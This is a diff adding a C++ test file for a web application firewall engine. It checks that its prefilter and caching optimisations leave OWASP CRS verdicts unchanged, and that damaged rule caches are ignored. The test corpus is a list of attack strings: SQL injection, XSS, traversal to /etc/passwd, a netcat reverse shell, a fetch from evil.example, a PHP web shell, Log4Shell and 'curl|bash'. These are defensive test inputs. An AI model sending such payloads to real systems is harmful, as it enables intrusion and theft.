@@ -1,0 +1,279 @@
+// The optimisations change nothing: every request gives the same matches, in the same order, with the same
+// texts, whether values are scanned ahead or not, whether forms are kept or not. Held to stock CRS with a
+// corpus of attacks in every place of a request, and mutations of them.
+
+#include <unistd.h>
+
+#include <filesystem>
+#include <random>
+
+#include "rules/byte_filter.h"
+#include "rules/match_re.h"
+#include "rules/program.h"
+#include "tests/unit/rules_core/waf.h"
+
+namespace weir::rules::testing {
+namespace {
+
+const std::vector<std::string> kPayloads = {
+    "1' or '1'='1", "1 union select null,null--", "1; drop table users", "sleep(5)#", "' and 1=0 --",
+    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
+    "<svg/onload=alert`1`>", "../../../../etc/passwd", "..%2f..%2fetc%2fshadow", "/etc/passwd%00",
+    "c:\\windows\\system32\\cmd.exe", "; cat /etc/passwd", "$(id)", "`whoami`", "| nc -e /bin/sh 1.2.3.4 9",
+    "http://evil.example/shell.txt?", "php://filter/convert.base64-encode", "<?php system($_GET[c]); ?>",
+    "${jndi:ldap://x/a}", "{{7*7}}", "%{(#a=@java.lang.Runtime@getRuntime())}", "() { :;}; echo x",
+    "Set-Cookie: a=b\r\nX: y", "O:8:\"stdClass\":0:{}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
+    "constructor.prototype", "require('child_process')", "&#60;script&#62;", "\\x3cscript\\x3e",
+    "%u003cscript%u003e", "select * from information_schema.tables", "benchmark(1000000,md5(1))",
+    "waitfor delay '0:0:5'", "1/**/or/**/1=1", "admin'--", "order by 10", "xp_cmdshell", "load_file('/x')",
+    "hello world", "12345", "john.doe@example.com", "The quick brown fox jumps", "a", "",
+    "https://www.example.com/path?x=y&z=1", "2023-01-01T00:00:00Z", "caf\xc3\xa9", "\xff\xfe\x00x",
+    "SELECT name FROM users WHERE id=1 AND password LIKE '%a%'", "cmd=ls+-la", "sudo rm -rf /",
+    "powershell -enc AAAA", "wget http://x/y", "curl|bash", "/bin/bash -i", "passwd", ".htaccess",
+    "WEB-INF/web.xml", ".git/config", "sqlmap/1.0", "nikto", "x=1&x=2&x=3", "a;b;c", "[1,2,3]"};
+
+std::string percent(std::string_view s) {
+  static const char* const kHex = "0123456789abcdef";
+  std::string out;
+  for (const char c : s) {
+    const auto b = static_cast<std::uint8_t>(c);
+    out += '%';
+    out += kHex[b >> 4];
+    out += kHex[b & 15];
+  }
+  return out;
+}
+
+constexpr int kPlaces = 9;
+
+Request place(const std::string& payload, int where) {
+  Request r = get("/index.php?page=1");
+  switch (where) {
+    case 0: r.target = "/?id=" + percent(payload); break;
+    case 1: r.target = "/?" + percent(payload) + "=1"; break;
+    case 2: r.target = "/dir/" + percent(payload); break;
+    case 3: r.header("Cookie", "session=" + payload); break;
+    case 4: r.header("User-Agent", payload).header("Referer", payload); break;
+    case 5: r = form("a=1&b=" + percent(payload)); break;
+    case 6: r = post("application/json", "{\"k\":\"" + payload + "\"}"); break;
+    case 7: r = post("text/xml", "<a b='x'>" + payload + "</a>"); break;
+    default:
+      r = post("multipart/form-data; boundary=b",
+               "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"" + payload +
+                   "\"\r\n\r\n" + payload + "\r\n--b--\r\n");
+  }
+  r.response_body = where == 0 ? payload : "";
+  return r;
+}
+
+std::string outcome(Waf& waf, const Request& r) {
+  waf.run(r);
+  std::string out;
+  for (const Match& m : waf.transaction().matches()) {
+    out += std::to_string(m.rule_id) + "|" + std::string(m.message) + "|" + std::string(m.data) + "|" +
+           std::string(m.target) + "|" + std::string(m.value) + "\n";
+  }
+  const Decision& d = waf.transaction().decision();
+  out += std::to_string(static_cast<int>(d.kind)) + " " + std::to_string(d.rule_id) + "\n";
+  out += waf.tx("anomaly_score") + " " + waf.tx("inbound_anomaly_score_pl1");
+  return out;
+}
+
+std::vector<Source> crs3() {
+  const std::string setup = "/etc/modsecurity/crs/crs-setup.conf";
+  const std::string rules = "/usr/share/modsecurity-crs/rules";
+  if (!std::filesystem::exists(setup) || !std::filesystem::exists(rules)) return {};
+  return {Source::memory(
+      "base.conf",
+      "SecRuleEngine DetectionOnly\nSecRequestBodyAccess On\nSecResponseBodyAccess On\nInclude " +
+          setup +
+          "\nSecAction \"id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=4\"\n"
+          "SecRule REQUEST_HEADERS:Content-Type \"@contains json\" "
+          "\"id:900001,phase:1,nolog,pass,ctl:requestBodyProcessor=JSON\"\n"
+          "SecRule REQUEST_HEADERS:Content-Type \"@contains xml\" "
+          "\"id:900002,phase:1,nolog,pass,ctl:requestBodyProcessor=XML\"\nInclude " +
+          rules + "/*.conf\n")};
+}
+
+std::string mutated(std::string s, std::mt19937& random) {
+  const std::size_t times = random() % 4;
+  for (std::size_t i = 0; i < times; ++i) {
+    const std::size_t at = s.empty() ? 0 : random() % s.size();
+    switch (random() % 5) {
+      case 0: s.insert(at, 1, static_cast<char>(random() % 256)); break;
+      case 1: if (!s.empty()) s.erase(at, 1); break;
+      case 2: s += kPayloads[random() % kPayloads.size()]; break;
+      case 3: if (!s.empty()) s[at] = static_cast<char>(s[at] ^ 0x20); break;
+      default: s.insert(at, " /**/"); break;
+    }
+  }
+  return s;
+}
+
+TEST(Differential, OptimisationsChangeNoVerdictOfCrs) {
+  const auto sources = crs3();
+  if (sources.empty()) GTEST_SKIP() << "CRS 3 is not installed";
+  LoadOptions none;
+  none.optimisations.prefilter = false;
+  none.optimisations.transform_cache = false;
+  Waf fast(sources, {});
+  Waf plain(sources, none);
+  LOADED(fast);
+  LOADED(plain);
+  std::mt19937 random(7);
+  std::size_t matching = 0;
+  std::uint64_t fast_work = 0;
+  std::uint64_t plain_work = 0;
+  for (int round = 0; round < 3; ++round) {
+    for (const std::string& payload : kPayloads) {
+      const std::string p = round == 0 ? payload : mutated(payload, random);
+      for (int where = 0; where < kPlaces; ++where) {
+        const Request r = place(p, where);
+        const std::string want = outcome(plain, r);
+        ASSERT_EQ(outcome(fast, r), want) << p << " in place " << where;
+        fast_work += fast.transaction().work();
+        plain_work += plain.transaction().work();
+        if (want.find("942") != std::string::npos || want.find("941") != std::string::npos) ++matching;
+      }
+    }
+  }
+  EXPECT_GT(matching, 100U);
+  EXPECT_LT(fast_work, plain_work);
+}
+
+// Contract of the byte filter: whatever it rules out, PCRE2 does not find.
+TEST(Differential, ByteFilterNeverRulesOutAMatch) {
+  const auto sources = crs3();
+  if (sources.empty()) GTEST_SKIP() << "CRS 3 is not installed";
+  LoadOptions none;
+  none.optimisations.prefilter = false;
+  Waf waf(sources, none);
+  LOADED(waf);
+  std::vector<const Regex*> patterns;
+  std::vector<Necessary> necessary;
+  std::size_t useful = 0;
+  for (const Link& link : waf.rules()->program().links) {
+    if (link.op == nullptr || link.op->regex() == nullptr) continue;
+    patterns.push_back(link.op->regex());
+    necessary.push_back(necessary_of(patterns.back()->pattern(), patterns.back()->options().caseless));
+    if (!necessary.back().sets.empty()) ++useful;
+  }
+  EXPECT_GT(useful, patterns.size() * 8 / 10);
+  ByteFilter filter;
+  filter.build(necessary);
+  std::vector<std::uint64_t> bits(filter.words());
+  ReScratch scratch;
+  std::mt19937 random(11);
+  std::size_t ruled_out = 0;
+  std::size_t asked = 0;
+  for (int i = 0; i < 3000; ++i) {
+    std::string s = mutated(kPayloads[random() % kPayloads.size()], random);
+    if (random() % 4 == 0) s = patterns[random() % patterns.size()]->pattern().substr(0, 80);
+    filter.survivors(s, bits.data());
+    for (std::size_t p = 0; p < patterns.size(); ++p) {
+      ++asked;
+      if ((bits[p / 64] >> (p % 64) & 1U) != 0) continue;
+      ++ruled_out;
+      ASSERT_NE(patterns[p]->search(s, scratch, {}), ReResult::Match)
+          << patterns[p]->pattern() << " on " << s;
+    }
+  }
+  EXPECT_GT(ruled_out, asked / 2);
+}
+
+struct NecessaryCase {
+  const char* pattern;
+  bool caseless;
+  std::size_t min_length;
+  const char* absent;  // a value that must be ruled out, or null
+  const char* present; // a value that must survive
+};
+
+TEST(ByteFilter, KnowsWhatAPatternNeeds) {
+  const NecessaryCase cases[] = {
+      {"abc", false, 3, "abd", "xabcx"},
+      {"abc", true, 3, "abd", "ABC"},
+      {"(?i)abc", false, 3, "abd", "ABC"},
+      {"a|b", false, 1, "c", "b"},
+      {"(?:union|select)\\s+x", false, 7, "union;;x", "union   x"},
+      {"a?b*c+", false, 1, "ab", "c"},
+      {"a{0,3}b{2,}", false, 2, "aaa", "bb"},
+      {"[^a]", false, 1, "", "b"},
+      {"[a-c]{3}", false, 3, "xyzxyz", "abc"},
+      {"\\x41\\x{42}", false, 2, "ab", "AB"},
+      {"a(?=b)", false, 1, "b", "ab"},
+      {"a(?!b)", false, 1, "b", "ac"},
+      {"(?<=x)y", false, 1, "x", "xy"},
+      {"\\bfoo\\b", false, 3, "fo", "foo"},
+      {"(a)\\1", false, 1, "b", "aa"},
+      {"^$", false, 0, nullptr, ""},
+      {"[[:alpha:]]x", false, 2, "a", "ax"},
+      {"(?:a|)b", false, 1, "a", "b"},
+      {"\\d+-\\w", false, 3, "12", "1-a"},
+      {"a(?i)b(?-i)c", false, 3, "Abc", "aBc"},
+      {"(?i:a)b", false, 2, "AB", "Ab"},
+      {"[\\]x]", false, 1, "y", "]"},
+      {"[]x]", false, 1, "y", "]"},
+      {"[a-]", false, 1, "b", "-"},
+      {"a.c", false, 3, "ac", "a\nc"},
+      {"\\Qa.b\\E", false, 0, nullptr, "a.b"},  // not understood: survives
+      {"(?<n>a)(?P<m>b)", false, 2, "a", "ab"},
+      {"a++b", false, 2, "b", "ab"},
+      {"x{,3}", false, 5, "x", "x{,3}"},
+  };
+  for (const NecessaryCase& c : cases) {
+    const Necessary n = necessary_of(c.pattern, c.caseless);
+    EXPECT_EQ(n.min_length, c.min_length) << c.pattern;
+    ByteFilter filter;
+    filter.build({n});
+    std::uint64_t bit = 0;
+    filter.survivors(c.present, &bit);
+    EXPECT_EQ(bit & 1U, 1U) << c.pattern << " on " << c.present;
+    if (c.absent != nullptr) {
+      filter.survivors(c.absent, &bit);
+      EXPECT_EQ(bit & 1U, 0U) << c.pattern << " on " << c.absent;
+    }
+  }
+}
+
+TEST(Cache, RestoresDatabasesAndIgnoresDamage) {
+  namespace fs = std::filesystem;
+  const auto sources = crs3();
+  if (sources.empty()) GTEST_SKIP() << "CRS 3 is not installed";
+  const fs::path dir = fs::temp_directory_path() / ("weir-cache-test-" + std::to_string(::getpid()));
+  fs::create_directory(dir);
+  LoadOptions options;
+  options.cache_directory = dir.string();
+  Waf cold(sources, options);
+  LOADED(cold);
+  EXPECT_FALSE(cold.rules()->stats().from_cache);
+  Waf warm(sources, options);
+  LOADED(warm);
+  EXPECT_TRUE(warm.rules()->stats().from_cache);
+  EXPECT_EQ(warm.rules()->stats().patterns_prefiltered, cold.rules()->stats().patterns_prefiltered);
+  const Request r = place(kPayloads[0], 0);
+  EXPECT_EQ(outcome(warm, r), outcome(cold, r));
+  std::size_t files = 0;
+  for (const auto& entry : fs::directory_iterator(dir)) {
+    // Every file is damaged in its own way.
+    std::FILE* f = std::fopen(entry.path().c_str(), "r+b");
+    ASSERT_NE(f, nullptr);
+    if (files % 2 == 0) {
+      std::fseek(f, static_cast<long>(fs::file_size(entry.path()) / 2), SEEK_SET);
+      std::fputc('!', f);
+      std::fputc('?', f);
+    }
+    std::fclose(f);
+    if (files % 2 == 1) fs::resize_file(entry.path(), fs::file_size(entry.path()) / 3);
+    ++files;
+  }
+  EXPECT_GT(files, 0U);
+  Waf again(sources, options);
+  LOADED(again);
+  EXPECT_FALSE(again.rules()->stats().from_cache);
+  EXPECT_EQ(outcome(again, r), outcome(cold, r));
+  fs::remove_all(dir);
+}
+
+}  // namespace
+}  // namespace weir::rules::testing
